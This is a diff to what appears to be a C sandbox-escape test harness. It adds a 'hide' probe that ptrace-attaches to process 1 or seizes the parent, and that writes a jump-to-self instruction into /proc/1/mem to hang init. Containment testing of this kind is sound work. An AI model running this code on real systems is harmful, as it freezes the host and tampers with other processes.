@@ -13,6 +13,7 @@
 #include <string.h>
 #include <sys/ioctl.h>
 #include <sys/mount.h>
+#include <sys/ptrace.h>
 #include <sys/resource.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
@@ -279,6 +280,38 @@ static int freeze(char **a) {
 		pause();
 }
 
+/* spoil: have process 1 loop for ever at the next instruction that it executes. */
+static long spoil(void) {
+#if defined(__x86_64__)
+	static const unsigned char loop[] = {0xeb, 0xfe};
+#else
+	static const unsigned char loop[] = {0x00, 0x00, 0x00, 0x14};
+#endif
+	char text[512] = {0};
+	int fd = open("/proc/1/syscall", O_RDONLY);
+	if (fd < 0 || read(fd, text, sizeof text - 1) <= 0)
+		return -1;
+	char *at = strrchr(text, ' '); /* the program counter comes last */
+	int mem = open("/proc/1/mem", O_RDWR);
+	if (!at || mem < 0)
+		return -1;
+	return pwrite(mem, loop, sizeof loop, (off_t)strtoull(at, NULL, 0));
+}
+
+/* hide HOW: keep the exit of the command from whoever waits for it. attach stops
+ * process 1, spoil makes it loop, seize traces the parent, which then exits. */
+static int hide(char **a) {
+	caged();
+	long result = !strcmp(a[0], "attach") ? ptrace(PTRACE_ATTACH, 1, NULL, NULL)
+		: !strcmp(a[0], "seize") ? ptrace(PTRACE_SEIZE, getppid(), NULL, NULL) : spoil();
+	int saved = errno, null = open("/dev/null", O_RDWR);
+	dup2(null, 2);
+	errno = saved;
+	say(a[0], result);
+	for (;;)
+		pause();
+}
+
 /* init: what process 1 has that this one has not. */
 static int init(char **a) {
 	(void)a;
@@ -404,7 +437,7 @@ int main(int argc, char **argv) {
 	static const struct { const char *name; int args; int (*run)(char **); } attacks[] = {
 		{"swap", 3, swap}, {"spin", 1, spin}, {"fds", 0, fds}, {"sendfd", 2, sendfd}, {"fetch", 1, fetch}, {"reach", 1, reach},
 		{"type", 0, type}, {"master", 0, master}, {"signal", 1, signal_all}, {"bomb", 1, bomb}, {"freeze", 0, freeze}, {"init", 0, init},
-		{"unroot", 2, unroot}, {"putkey", 2, putkey}, {"getkey", 1, getkey},
+		{"unroot", 2, unroot}, {"putkey", 2, putkey}, {"getkey", 1, getkey}, {"hide", 1, hide},
 	};
 	for (size_t i = 0; argc > 1 && i < sizeof attacks / sizeof attacks[0]; i++)
 		if (!strcmp(argv[1], attacks[i].name) && argc - 2 >= attacks[i].args)
